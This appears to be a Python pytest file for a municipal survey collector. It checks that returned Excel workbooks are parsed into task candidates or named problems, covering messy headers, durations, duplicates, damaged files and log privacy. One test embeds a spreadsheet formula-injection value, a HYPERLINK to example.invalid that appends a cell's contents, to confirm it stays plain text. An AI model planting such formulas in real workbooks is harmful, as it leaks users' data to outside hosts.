"""Reading returned workbooks: each kind of mess ends as a candidate or a listed problem."""

from __future__ import annotations

import logging
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core.calendar import fiscal_year_bounds, office_days
from core.inventory import DataClass, InputSource
from reports.survey import candidate_id, collect_answers, periods_per_year, write_survey_form
from reports.survey._form import EXAMPLES
from tests.reports.survey.conftest import FY, LABELS, answer, returned

MINUTES = "1件あたりの作業時間（分）"


def test_a_clean_answer_becomes_a_candidate_with_every_field(tmp_path: Path) -> None:
    returned(
        tmp_path / "住民課_回答.xlsx", [answer(個人番号を扱うか="はい", 自由記述="3画面に入力")]
    )
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert collected.problems == []
    [candidate] = collected.candidates
    assert candidate.id == candidate_id(FY, "住民課", "転入届の住民記録システム入力")
    assert candidate.id.startswith("s2027-") and len(candidate.id) == 14
    assert (candidate.name, candidate.department, candidate.contact) == (
        "転入届の住民記録システム入力", "住民課", "住民記録係 山田"
    )  # fmt: skip
    assert (candidate.survey_year, candidate.items_per_year, candidate.minutes_per_item) == (
        2027, 240, 6
    )  # fmt: skip
    assert candidate.feasibility is None
    assert candidate.data_classification is DataClass.MY_NUMBER
    assert candidate.input_from is InputSource.PAPER
    assert (candidate.input_to, candidate.handwritten_form, candidate.busy_season) == (
        "住民記録システム", True, "3〜4月"
    )  # fmt: skip
    assert candidate.notes == "3画面に入力"
    assert candidate.source == "住民課_回答.xlsx:行5"
    assert (collected.files, collected.rows) == (1, 1)


def test_ids_are_stable_across_reruns_and_spellings(tmp_path: Path) -> None:
    returned(tmp_path / "a.xlsx", [answer()])
    first = collect_answers(tmp_path, fiscal_year=FY).candidates[0].id
    assert collect_answers(tmp_path, fiscal_year=FY).candidates[0].id == first
    assert candidate_id(FY, "住民課 ", "転入届の 住民記録システム入力") == first
    assert candidate_id(FY, "税務課", "転入届の住民記録システム入力") != first


def test_every_frequency_counts_the_same_way_for_every_department(tmp_path: Path) -> None:
    days = sum(1 for _ in office_days(*fiscal_year_bounds(FY)))
    assert 235 <= days <= 250 and periods_per_year("日", FY) == days
    rows = [
        answer(業務名="日次の業務", 頻度="日", 件数=10),
        answer(業務名="週次の業務", 頻度="週", 件数=10, 課="税務課"),
        answer(業務名="月次の業務", 頻度="月", 件数=10, 課="税務課"),
        answer(業務名="年次の業務", 頻度="年", 件数=10, 課="税務課"),
    ]
    returned(tmp_path / "a.xlsx", rows)
    items = {c.name: c.items_per_year for c in collect_answers(tmp_path, fiscal_year=FY).candidates}
    assert items == {
        "日次の業務": 10 * days,
        "週次の業務": 520,
        "月次の業務": 120,
        "年次の業務": 10,
    }


def test_a_renamed_sheet_is_found_by_its_header(tmp_path: Path) -> None:
    returned(tmp_path / "a.xlsx", [answer()], sheet_title="R9回答（住民課）")
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert [c.source for c in collected.candidates] == ["a.xlsx:行5"]


def test_rows_inserted_above_the_header_move_it_down(tmp_path: Path) -> None:
    returned(tmp_path / "a.xlsx", [answer(), answer(業務名="印鑑登録申請の入力")], rows_above=3)
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert [c.source for c in collected.candidates] == ["a.xlsx:行8", "a.xlsx:行9"]
    assert collected.problems == []


def test_reordered_inserted_and_reworded_columns(tmp_path: Path) -> None:
    headers = ["No.", "所要時間（分）", "自由記述", "処理件数", "業務", "課長確認", "所属", "頻度",
               "個人番号を扱うか", "担当者"]  # fmt: skip
    row = {"No.": 1, "所要時間（分）": "0.5時間", "処理件数": 30, "業務": "水道 開閉栓届の入力",
           "課長確認": "済", "所属": "上下水道課", "頻度": "週",
           "個人番号を扱うか": "いいえ"}  # fmt: skip
    blank_with_number = {"No.": 2}  # a numbered but empty row is blank
    returned(tmp_path / "a.xlsx", [row, blank_with_number], headers=headers)
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert collected.problems == []
    [candidate] = collected.candidates
    assert (candidate.name, candidate.department) == ("水道 開閉栓届の入力", "上下水道課")
    assert (candidate.items_per_year, candidate.minutes_per_item) == (30 * 52, 30)
    assert candidate.data_classification is None and candidate.input_from is None


def test_durations_typed_as_text(tmp_path: Path) -> None:
    typed = {"30分": 30, "0.5時間": 30, "1時間30分": 90, "１５": 15, "約10分": 10, "10～20分": 15}
    rows = [answer(業務名=f"業務{i}", **{MINUTES: text}) for i, text in enumerate(typed)]
    returned(tmp_path / "a.xlsx", rows)
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert collected.problems == []
    assert [c.minutes_per_item for c in collected.candidates] == list(typed.values())
    ranged = collected.candidates[-1]
    assert "範囲（10〜20分）の中間値" in ranged.notes
    assert "おおよそ" in collected.candidates[4].notes


def test_a_frequency_inside_the_count_fills_an_empty_frequency(tmp_path: Path) -> None:
    rows = [
        answer(業務名="月20件程度の業務", 頻度=None, 件数="月20件程度"),
        answer(業務名="20件の業務", 件数="20件"),
        answer(業務名="文字の100の業務", 件数="100"),
        answer(業務名="毎日の業務", 頻度="毎日", 件数=1),
        answer(業務名="食い違う業務", 頻度="年", 件数="月20件"),
    ]
    returned(tmp_path / "a.xlsx", rows)
    collected = collect_answers(tmp_path, fiscal_year=FY)
    items = {c.name: c.items_per_year for c in collected.candidates}
    assert items == {"月20件程度の業務": 240, "20件の業務": 240, "文字の100の業務": 1200,
                     "毎日の業務": periods_per_year("日", FY)}  # fmt: skip
    assert "頻度は件数欄の「月」" in collected.candidates[0].notes
    assert [str(p) for p in collected.problems] == [
        "a.xlsx 調査票 9行目 件数: 件数欄の「月」と頻度欄の「年」が食い違っています"
    ]


def test_empty_cells_are_problems_naming_the_cell(tmp_path: Path) -> None:
    rows = [
        answer(件数=None),
        answer(業務名="時間が空の業務", **{MINUTES: None}),
        answer(業務名="頻度が空の業務", 頻度=None),
        answer(業務名=None),
    ]
    returned(tmp_path / "保険年金課_回答.xlsx", rows)
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert collected.candidates == []
    assert [str(p) for p in collected.problems] == [
        "保険年金課_回答.xlsx 調査票 5行目 件数: 空欄です",
        "保険年金課_回答.xlsx 調査票 6行目 1件あたりの作業時間（分）: 空欄です",
        "保険年金課_回答.xlsx 調査票 7行目 頻度: 空欄です（日・週・月・年のいずれか）",
        "保険年金課_回答.xlsx 調査票 8行目 業務名: 空欄です",
    ]
    assert collected.rows == 4


def test_a_problem_names_the_column_as_the_file_heads_it(tmp_path: Path) -> None:
    headers = ["業務", "課", "頻度", "処理件数", "所要時間"]
    returned(tmp_path / "a.xlsx", [{"業務": "x", "課": "市民課", "頻度": "月", "所要時間": 5}],
             headers=headers)  # fmt: skip
    [problem] = collect_answers(tmp_path, fiscal_year=FY).problems
    assert (problem.row, problem.column, problem.message) == (5, "処理件数", "空欄です")


def test_an_unreadable_optional_cell_is_listed_but_keeps_the_candidate(tmp_path: Path) -> None:
    returned(tmp_path / "a.xlsx", [answer(手書き帳票か="たぶん", 個人番号を扱うか="○")])
    collected = collect_answers(tmp_path, fiscal_year=FY)
    [candidate] = collected.candidates
    assert candidate.handwritten_form is None
    assert candidate.data_classification is DataClass.MY_NUMBER
    assert [(p.row, p.column) for p in collected.problems] == [(5, "手書き帳票か")]


@pytest.mark.parametrize(("yes", "no"), [("○", "×"), ("有", "無"), ("Y", "N"), ("はい", "いいえ")])
def test_yes_no_written_as_symbols(tmp_path: Path, yes: str, no: str) -> None:
    returned(tmp_path / "a.xlsx", [answer(手書き帳票か=yes, 個人番号を扱うか=no)])
    [candidate] = collect_answers(tmp_path, fiscal_year=FY).candidates
    assert candidate.handwritten_form is True and candidate.data_classification is None


def test_the_same_task_twice_is_one_candidate_and_a_problem_with_both_places(
    tmp_path: Path,
) -> None:
    returned(tmp_path / "01_住民課.xlsx", [answer(件数=10)])
    second = [answer(業務名="別の業務"), answer(業務名="転入届の 住民記録システム入力")]
    returned(tmp_path / "02_住民課_窓口係.xlsx", second)
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert [(c.name, c.items_per_year) for c in collected.candidates] == [
        ("転入届の住民記録システム入力", 120), ("別の業務", 240)
    ]  # fmt: skip
    [problem] = collected.problems
    assert str(problem) == (
        "02_住民課_窓口係.xlsx 調査票 6行目 業務名: 同じ業務（課と業務名が同じ）が "
        "01_住民課.xlsx 調査票 5行目 にもあります。最初の回答だけを候補にしました"
    )


def test_the_same_task_twice_in_one_file(tmp_path: Path) -> None:
    returned(tmp_path / "a.xlsx", [answer(), answer(件数=5)])
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert len(collected.candidates) == 1 and collected.candidates[0].items_per_year == 240
    assert [(p.row, "5行目" in p.message) for p in collected.problems] == [(6, True)]


def test_total_and_blank_rows_are_skipped(tmp_path: Path) -> None:
    rows = [answer(), None, None, answer(業務名="印鑑登録申請の入力"),
            {"業務名": "合計", "件数": 40}, {"課": "計", "件数": 40}]  # fmt: skip
    returned(tmp_path / "a.xlsx", rows)
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert [c.source for c in collected.candidates] == ["a.xlsx:行5", "a.xlsx:行8"]
    assert collected.problems == [] and collected.rows == 2


def test_a_row_with_only_the_department_filled_down_is_blank(tmp_path: Path) -> None:
    returned(tmp_path / "a.xlsx", [answer(), {"課": "住民課"}, {"課": "住民課", "担当者": "山田"}])
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert (len(collected.candidates), collected.problems) == (1, [])


def test_a_damaged_file_is_one_problem_and_the_rest_goes_on(tmp_path: Path) -> None:
    (tmp_path / "01_壊れた.xlsx").write_bytes(b"PK\x03\x04 not really a workbook")
    (tmp_path / "02_テキスト.xlsx").write_text("これはExcelではありません", encoding="utf-8")
    (tmp_path / "03_古い形式.xls").write_bytes(b"\xd0\xcf\x11\xe0")
    returned(tmp_path / "04_住民課.xlsx", [answer()])
    (tmp_path / "~$04_住民課.xlsx").write_bytes(b"lock")
    (tmp_path / "05_見出しなし.xlsx").write_bytes(_no_header(tmp_path))
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert len(collected.candidates) == 1
    assert [(p.file, p.row) for p in collected.problems] == [
        ("01_壊れた.xlsx", None), ("02_テキスト.xlsx", None), ("03_古い形式.xls", None),
        ("05_見出しなし.xlsx", None),
    ]  # fmt: skip
    assert "開けません" in collected.problems[0].message
    assert ".xlsx 形式に保存し直して" in collected.problems[2].message
    assert "見出し行" in collected.problems[3].message


def _no_header(tmp_path: Path) -> bytes:
    path = write_survey_form(tmp_path / "scratch" / "x.xlsx", fiscal_year=FY)
    workbook = load_workbook(path)
    for name in workbook.sheetnames:
        for row in workbook[name].iter_rows():
            for cell in row:
                cell.value = None
    workbook.save(path)
    return path.read_bytes()


def test_the_blank_form_and_its_examples_give_nothing(tmp_path: Path) -> None:
    write_survey_form(tmp_path / "blank.xlsx", fiscal_year=FY)
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert (collected.candidates, collected.problems, collected.rows) == ([], [], 0)


def test_examples_pasted_into_the_answers_are_skipped(tmp_path: Path) -> None:
    by_label = [{label: example[key] for label, key in zip(LABELS, example, strict=True)}
                for example in EXAMPLES]  # fmt: skip
    returned(tmp_path / "a.xlsx", [*by_label, answer()])
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert [c.source for c in collected.candidates] == ["a.xlsx:行7"]
    assert collected.problems == []


def test_an_edited_example_is_a_problem_not_a_candidate(tmp_path: Path) -> None:
    row = {label: EXAMPLES[0][key] for label, key in zip(LABELS, EXAMPLES[0], strict=True)}
    returned(tmp_path / "a.xlsx", [{**row, "件数": 999}])
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert collected.candidates == []
    assert [p.column for p in collected.problems] == ["業務名"]


def test_formula_looking_text_stays_text(tmp_path: Path) -> None:
    name = '=HYPERLINK("http://example.invalid/?leak="&A3,"詳細")'
    path = returned(tmp_path / "a.xlsx", [answer(業務名=name), answer(業務名="計算式の件数")])
    workbook = load_workbook(path)
    workbook["調査票"]["E6"] = "=10*12"  # a real formula, typed without a quote
    workbook.save(path)
    assert load_workbook(path)["調査票"]["E6"].data_type == "f"
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert [c.name for c in collected.candidates] == [name]
    assert [(p.row, p.column, "数式" in p.message) for p in collected.problems] == [
        (6, "件数", True)
    ]


def test_an_empty_department_takes_the_files_department_when_it_is_one(tmp_path: Path) -> None:
    returned(tmp_path / "a.xlsx", [answer(), answer(業務名="二件目", 課=None)])
    returned(tmp_path / "b.xlsx", [answer(課="税務課"), answer(業務名="不明", 課=None),
                                   answer(業務名="別", 課="財政課")])  # fmt: skip
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert [(c.name, c.department) for c in collected.candidates] == [
        ("転入届の住民記録システム入力", "住民課"), ("二件目", "住民課"),
        ("転入届の住民記録システム入力", "税務課"), ("別", "財政課"),
    ]  # fmt: skip
    assert [(p.file, p.row, p.column) for p in collected.problems] == [("b.xlsx", 6, "課")]


def test_rows_beyond_the_bound_are_a_problem(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("reports.survey._collect.MAX_ROWS", 2)
    returned(tmp_path / "a.xlsx", [answer(業務名=f"業務{i}") for i in range(4)])
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert len(collected.candidates) == 2
    assert [(p.row, "2行より下" in p.message) for p in collected.problems] == [(7, True)]


def test_an_overlong_name_is_a_problem(tmp_path: Path) -> None:
    returned(tmp_path / "a.xlsx", [answer(業務名="長" * 201)])
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert collected.candidates == [] and "200文字" in collected.problems[0].message


def test_a_form_of_another_year_is_noted(tmp_path: Path) -> None:
    path = returned(tmp_path / "a.xlsx", [answer()])
    workbook = load_workbook(path)
    workbook.custom_doc_props["jimu_survey_form"].value = 2026
    workbook.save(path)
    collected = collect_answers(tmp_path, fiscal_year=FY)
    assert len(collected.candidates) == 1
    assert [p.message for p in collected.problems] == [
        "2026年度の調査票です（2027年度の回答として読みました）"
    ]


def test_no_cell_content_reaches_the_log(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    (tmp_path / "broken.xlsx").write_bytes(b"nope")
    returned(tmp_path / "a.xlsx", [answer(担当者="秘密 花子", 業務名="機密業務", 件数=None)])
    with caplog.at_level(logging.DEBUG, logger="reports.survey"):
        collect_answers(tmp_path, fiscal_year=FY)
    logged = "\n".join(record.getMessage() for record in caplog.records)
    assert "a.xlsx" in logged and "broken.xlsx" in logged
    assert "秘密" not in logged and "機密" not in logged and "住民課" not in logged
